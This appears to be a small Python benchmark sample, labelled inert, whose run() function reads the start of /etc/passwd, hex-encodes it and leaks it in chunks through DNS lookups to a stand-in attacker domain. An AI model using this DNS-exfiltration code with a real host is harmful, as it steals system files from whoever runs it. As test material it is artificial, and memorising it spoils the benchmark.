# ruff: noqa
# fmt: off
# Inert benchmark sample (see bench/samples/INCIDENTS.md); every host is under example.invalid.
import binascii
import socket


def run():
    data = open("/etc/passwd").read()[:180]
    encoded = binascii.hexlify(data.encode()).decode()
    for start in range(0, len(encoded), 60):
        chunk = encoded[start:start + 60]
        socket.gethostbyname(chunk + ".h4ck.example.invalid")
